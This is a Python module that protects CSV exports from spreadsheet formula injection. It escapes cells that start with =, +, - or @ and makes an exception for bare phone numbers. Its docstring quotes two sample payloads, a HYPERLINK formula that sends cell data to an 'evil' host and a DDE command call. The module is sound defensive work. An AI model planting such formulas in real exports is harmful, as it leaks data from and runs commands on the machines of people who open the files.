"""Formula-injection rule for CSV cells: a customer's text never runs as a formula.

Excel, LibreOffice Calc and Google Sheets read a CSV cell as a formula when its first
character is `=`, `+`, `-` or `@`; a leading TAB or CR is stripped by some importers and
exposes the next character (OWASP "CSV Injection"). A payload such as
`=HYPERLINK("https://evil/?"&A2)` or `=cmd|'/c calc'!A1` then runs on the machine of
whoever opens the export.

The rule filebridge applies:

* **XLSX needs no change.** Every text value is written as a string cell
  (`write_string`), and a string cell is never evaluated by Excel or LibreOffice, whatever
  its first character. Values stay exact, phones `+49 30 5550123` included.
* **CSV text cells** whose value starts with a dangerous character get one `'` prefix
  (OWASP's recommendation; Excel and Calc then show text). A value that already starts
  with `'` followed (after any further quotes) by a dangerous character gets one more
  `'`, so the escape is reversible: `unescape_csv_text` gives back the exact value.
* **Phone numbers are the one exception**: a value in a phone column that is only a
  phone number (`+`, digits, spaces and `( ) . / -`, see `INERT_PHONE`) is written
  unchanged. It cannot carry a payload: with no letters, quotes, `!`, `|` or `:` there
  is no function, no cell or sheet reference and no DDE call a spreadsheet could run;
  at worst Excel shows it as a number or `#NAME?`, the same display problem every
  `+49…` phone has in Excel. Escaping it would instead corrupt the value for the ERP,
  which reads the CSV as data (`'+4930…` is not a phone number), so the ERP gets the
  exact number and spreadsheet users who need exact phones open the XLSX.
* Numbers and dates are produced by filebridge from typed values (a negative amount
  `-12.50` is a number, not text) and are not escaped.
"""

from __future__ import annotations

import re

__all__ = [
    "DANGEROUS_LEADING",
    "ESCAPE",
    "INERT_PHONE",
    "escape_csv_text",
    "is_dangerous",
    "is_inert_phone",
    "unescape_csv_text",
]

DANGEROUS_LEADING = frozenset("=+-@\t\r")
ESCAPE = "'"
INERT_PHONE = re.compile(r"\+?[0-9][0-9 ()./-]*")
_ESCAPED = re.compile(r"'+[=+\-@\t\r]")


def is_dangerous(value: str) -> bool:
    """True when a spreadsheet could read `value` (as a CSV cell) as a formula."""
    return bool(value) and value[0] in DANGEROUS_LEADING


def is_inert_phone(value: str) -> bool:
    """True for a bare phone number: no character that a formula could act on."""
    return INERT_PHONE.fullmatch(value) is not None


def escape_csv_text(value: str, *, phone: bool = False) -> str:
    """The CSV form of a text value (module docstring); reversible."""
    if not value:
        return value
    first = value[0]
    if first in DANGEROUS_LEADING:
        if phone and is_inert_phone(value):
            return value
        return ESCAPE + value
    if first == ESCAPE and _ESCAPED.match(value):
        return ESCAPE + value
    return value


def unescape_csv_text(value: str) -> str:
    """Undo `escape_csv_text`: drop the one `'` it added, if any."""
    if _ESCAPED.match(value):
        return value[1:]
    return value
